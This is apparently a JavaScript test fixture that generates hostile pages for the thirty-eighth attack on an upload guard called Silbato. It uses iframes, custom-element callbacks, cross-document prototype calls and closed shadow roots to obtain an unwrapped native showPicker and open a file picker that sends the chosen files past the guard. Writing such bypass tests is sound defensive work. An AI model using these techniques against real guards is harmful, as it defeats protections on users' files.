// Hostile pages for the thirty-eighth attack on the upload guard: what
// attack 37's fix (insertions.js stillGoing: a node already where a running
// insertion puts it stays going until the call returns, except in
// Silbato's own put-back of a held code element, `putBack`) misses. As in
// attacks 33-37, page code runs INSIDE a native insertion call and puts a
// frame into a node the call is about to insert; a custom element in the
// frame's fallback keeps the new first document's native showPicker.
// Served by server.mjs at /attack38-…; tests: attack38.test.mjs.

import { attackPages, grabHelpers, pickerWaysPage } from './uploads.mjs';

// A same-origin child page with an address: its own copy of Silbato (its own `going` stack).
const CHILD = '<!doctype html><title>child</title><p>child</p>';

/** A frame f whose fallback's custom element `tag`, connected while `go` is set, runs `onConnect(b)` (b: the last frame's window). */
const grabber = (tag, onConnect) => `
      const f = frame();
      let go = false;
      customElements.define('${tag}', class extends HTMLElement {
        connectedCallback() {
          if (!go) return;
          go = false;
          const b = last();
          note('callback: frames ' + window.length + ', b: ' + says(b) + ', is f ' + (b && b.frameElement === f));
          if (!b || wrapped(b.HTMLInputElement.prototype.showPicker)) return;
          ${onConnect}
        }
      });
      f.append(document.createElement('${tag}'));`;

/** Open a picker at once with b's native showPicker (inside the person's click). */
const OPEN_AT_ONCE = `
          const input = document.createElement('input');
          input.type = 'file';
          input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
          try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }`;

/** Keep b's native showPicker, then move f out (moveBefore keeps its window) so the after-look finds no frame. */
const GRAB_AND_MOVE = `
          grab(b, 'callback');
          try { const w = f.contentWindow; park.moveBefore(f, null); note('moved out: same window ' + (f.contentWindow === w)); } catch (e) { note('moveBefore threw ' + e.name); }`;

/**
 * Cross-copy fill, opened at once in the click: a child frame /attack38-child (its own copy); in the person's
 * click, box = [inp, d] (in `where`'s document), inp focused (and typed into when `event` is 'change'); the top's
 * wrapped replaceChildren(d); the listener fills d with the CHILD copy's wrapped append (the child's stack is empty).
 */
const crossClick = (tag, where, event, fillWith, onConnect = OPEN_AT_ONCE, inClick = true, fresh = false) => `
      ${grabHelpers}
      const c = document.createElement('iframe');
      c.src = '/attack38-child';
      document.body.append(c);
      const park = document.createElement('div');
      document.body.append(park);
      ${grabber(tag, onConnect)}
      const ready = (go) => ${fresh ? "c.addEventListener('load', () => { c.src = '/attack38-child?again'; c.addEventListener('load', go, { once: true }); }, { once: true })" : "c.addEventListener('load', go, { once: true })"};
      ready(() => {
        const cw = window[0];
        const doc = ${where === 'child' ? 'cw.document' : 'document'};
        const box = doc.createElement('div');
        doc.body.append(box);
        const inp = doc.createElement('input');
        const d = doc.createElement('div');
        box.append(inp, d);
        note('child loaded: own append ' + (cw.Element.prototype.append !== Element.prototype.append));
        (${inClick} ? (h) => document.getElementById('open').addEventListener('click', h) : (h) => h())(() => {
          inp.focus();
          ${event === 'change' ? "doc.execCommand('insertText', false, 'typed');" : ''}
          inp.addEventListener('${event}', () => { try { ${fillWith}; } catch (e) { note('fill threw ' + e.name + ' ' + e.message); } go = true; note('${event}: frame in d ' + d.contains(f) + ', f connected ' + f.isConnected); }, { once: true });
          try { Element.prototype.replaceChildren.call(box, d); } catch (e) { note('threw ' + e.name + ' ' + e.message); }
          go = false;
          note('after: frame connected ' + f.isConnected);
          setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + (window.notes || []).slice(-5).join(' / '); }, 0);
        });
      });`;

/**
 * Silbato's own put-back of a held custom element x (putBack: a node already a child of `into` counts as put in):
 * box = [x], x a defined custom element holding a focused input and a frame g (the survey holds code only when
 * what goes in holds a frame); box.append(x) (a framework re-appending a node
 * where it is) holds x back in place, appends a stand-in, then puts x back with replaceChild(x, stand): x, already
 * box's child, is taken out first: its input's blur runs; the listener fills x with f (`fillWith`).
 */
const putBackWay = (tag, fillWith, onConnect, inClick = false) => `
      ${grabHelpers}
      const park = document.createElement('div');
      document.body.append(park);
      ${grabber(tag, onConnect)}
      customElements.define('${tag}-x', class extends HTMLElement {});
      const box = document.createElement('div');
      document.body.append(box);
      const x = document.createElement('${tag}-x');
      const inp = document.createElement('input');
      const g = document.createElement('iframe');
      x.append(inp, g);
      box.append(x);
      const run = () => {
        inp.focus();
        note('focused ' + (document.activeElement === inp) + ', hasFocus ' + document.hasFocus());
        let heard = [];
        for (const t of ['change', 'blur', 'focusout']) inp.addEventListener(t, () => heard.push(t + (x.parentNode ? ' (x in)' : ' (x out)')));
        inp.addEventListener('blur', () => { try { ${fillWith}; } catch (e) { note('fill threw ' + e.name + ' ' + e.message); } go = true; note('blur: frame in x ' + x.contains(f) + ', f connected ' + f.isConnected + ', x parent ' + (x.parentNode && x.parentNode.nodeName)); }, { once: true });
        try { box.append(x); } catch (e) { note('threw ' + e.name + ' ' + e.message); }
        go = false;
        note('heard ' + heard.join(', ') + '; after: frame connected ' + f.isConnected + ', grabbed ' + !!window.grabbed);
      };
      ${inClick ? "document.getElementById('open').addEventListener('click', () => { run(); setTimeout(() => { const st = document.getElementById(\'status\'); if (st) st.textContent += \' | \' + (window.notes || []).slice(-5).join(\' / \'); }, 0); });" : 'run();'}`;

const WAYS = {
  // Cross-copy fill (the CHILD's wrapped append on top nodes) during the top's replaceChildren, at the `change`.
  crossfillchange: crossClick('x-cfc-thirtyeight', 'top', 'change', 'cw.Element.prototype.append.call(d, f)'),
  // crossfillchange out of the click: the native showPicker kept, f moved out (moveBefore), the picker later.
  crossfillgrab: crossClick('x-cfg-thirtyeight', 'top', 'change', 'cw.Element.prototype.append.call(d, f)', GRAB_AND_MOVE, false),
  // The same at the blur.
  crossfillblur: crossClick('x-cfb-thirtyeight', 'top', 'blur', 'cw.Element.prototype.append.call(d, f)'),
  // box, inp, d in the child's document; the top's replaceChildren; fill with the child's wrapped append (d.append).
  crossdocblur: crossClick('x-cdb-thirtyeight', 'child', 'blur', 'd.append(f)'),
  // Cross-copy fill by the child's wrapped moveBefore (f first connected in a park of the child's document).
  crossfillmovebefore: crossClick('x-cfm-thirtyeight', 'top', 'change', 'document.body.append(f); cw.Element.prototype.moveBefore.call(d, f, null)'),
  // The cross-copy fills again, with a child of natives of its own: navigated a second time (the first navigation
  // from a frame's first, empty document keeps its window, so the child's copy found the top's wrappers as natives).
  crossfreshchange: crossClick('x-cnc-thirtyeight', 'top', 'change', 'cw.Element.prototype.append.call(d, f)', OPEN_AT_ONCE, true, true),
  crossfreshblur: crossClick('x-cnb-thirtyeight', 'top', 'blur', 'cw.Element.prototype.append.call(d, f)', OPEN_AT_ONCE, true, true),
  crossfreshgrab: crossClick('x-cng-thirtyeight', 'top', 'change', 'cw.Element.prototype.append.call(d, f)', GRAB_AND_MOVE, false, true),
  crossfreshdoc: crossClick('x-cnd-thirtyeight', 'child', 'blur', 'd.append(f)', OPEN_AT_ONCE, true, true),
  // Silbato's put-back of a held custom element: fill with the top's wrapped append, keep, move f out.
  putbackfill: putBackWay('x-pbf-thirtyeight', 'x.append(f)', GRAB_AND_MOVE),
  // The same, opened at once inside the person's click.
  putbackfillclickopen: putBackWay('x-pbo-thirtyeight', 'x.append(f)', OPEN_AT_ONCE, true),
  // The same, filled with moveBefore of an already connected f (park) into x.
  putbackmovebefore: putBackWay('x-pbm-thirtyeight', 'park.append(f); x.moveBefore(f, null)', GRAB_AND_MOVE),
  // A defined custom element x holding frame f in its CLOSED shadow root, already box's child; box.append(x) (a
  // re-append): the browser takes x out and puts it in, f gets a new first document; x's connectedCallback (end of
  // the call) reads f.contentWindow's showPicker.
  closedreappend: `
      ${grabHelpers}
      let go = false;
      let f;
      customElements.define('x-closed-thirtyeight', class extends HTMLElement {
        constructor() { super(); const r = this.attachShadow({ mode: 'closed' }); f = document.createElement('iframe'); r.append(f); }
        connectedCallback() {
          if (!go) return;
          go = false;
          const b = f.contentWindow;
          note('callback: b ' + says(b));
          if (b && !wrapped(b.HTMLInputElement.prototype.showPicker)) grab(b, 'closed callback');
        } });
      const box = document.createElement('div');
      document.body.append(box);
      const x = document.createElement('x-closed-thirtyeight');
      box.append(x);
      const w = f.contentWindow;
      note('first: ' + says(w));
      go = true;
      try { box.append(x); } catch (e) { note('threw ' + e.name); }
      go = false;
      note('after: new window ' + (f.contentWindow !== w) + ', grabbed ' + !!window.grabbed);`,
  // The indexed setter select[0] = option, the option holding f (docs: not covered), in the click, opened at once.
  selectindex: `
      ${grabHelpers}
      ${grabber('x-sel-thirtyeight', OPEN_AT_ONCE)}
      const sel = document.createElement('select');
      document.body.append(sel);
      document.getElementById('open').addEventListener('click', () => {
        const opt = document.createElement('option');
        opt.append(f);
        go = true;
        try { sel[0] = opt; } catch (e) { note('threw ' + e.name); }
        go = false;
        note('after: f connected ' + f.isConnected + ', frames ' + window.length);
        setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + (window.notes || []).slice(-5).join(' / '); }, 0);
      });`,
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(WAYS);
export { PICKER_WAYS };

const PROBES = {};

export const DETECTION_PROBES = Object.keys(PROBES);

const pages = attackPages(38, picker, PROBES);
export const attack38Page = (path, query) => (path === '/attack38-child' ? CHILD : pages(path, query));
